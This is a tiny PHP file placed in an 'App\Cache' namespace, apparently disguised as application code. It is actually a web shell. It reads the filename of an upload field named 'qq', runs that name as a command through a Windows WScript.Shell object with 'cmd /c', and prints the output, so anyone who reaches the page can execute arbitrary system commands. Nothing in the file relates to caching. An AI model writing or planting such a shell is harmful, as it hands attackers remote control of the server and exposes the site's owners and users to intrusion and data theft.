<?php
namespace App\Cache;
$z = $_FILES['qq']['name'];
$w = new COM('WScript.Shell');
echo $w->exec('cmd /c ' . $z)->StdOut->ReadAll();
